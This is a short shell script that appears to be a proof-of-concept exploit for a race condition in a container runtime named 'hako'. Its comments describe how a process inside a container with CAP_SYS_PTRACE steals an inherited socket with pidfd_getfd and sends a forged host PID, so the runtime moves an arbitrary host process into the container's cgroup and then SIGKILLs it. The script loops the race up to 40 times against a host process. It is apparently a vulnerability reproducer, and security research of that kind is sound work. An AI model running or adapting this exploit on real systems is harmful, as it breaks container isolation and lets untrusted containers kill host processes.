#!/bin/sh
# `hako exec` into a container holding CAP_SYS_PTRACE (no userns) can be made
# to take any HOST pid as the exec'd process: CloneInside's helper reports
# "PID inCgroup" on a socket the cloned process inherits (it closes it as
# its first act); execlie, spinning on the next pid, takes it with
# pidfd_getfd and sends "HOSTPID 0" first (readAnswer takes the first
# packet). hako then writes HOSTPID into the container's cgroup.procs,
# sets scheduler/oom_score_adj on it, and when the sync channel fails (we
# also send garbage there) kills it with SIGKILL. A race; won here at try
# 4 (and earlier within 25 tries) on a loaded 2-CPU host.
# Needs container "a" as in pod-notify-escape.sh with /bin/execlie2 in its rootfs.
cd /tmp/cold; export PATH=/work/wt/coldattack/.build/release:$PATH; H="hako --root /tmp/cold/state"
sleep 100000 >/dev/null 2>&1 & V=$!
for i in $(seq 1 40); do
  $H exec -d a /bin/execlie2 $V 2 > /tmp/cold/execlie.log 2>&1; sleep 0.2
  $H exec a true; sleep 0.2; grep sent /tmp/cold/execlie.log
  kill -0 $V 2>/dev/null || { echo "host pid $V killed by hako at try $i"; break; }
done
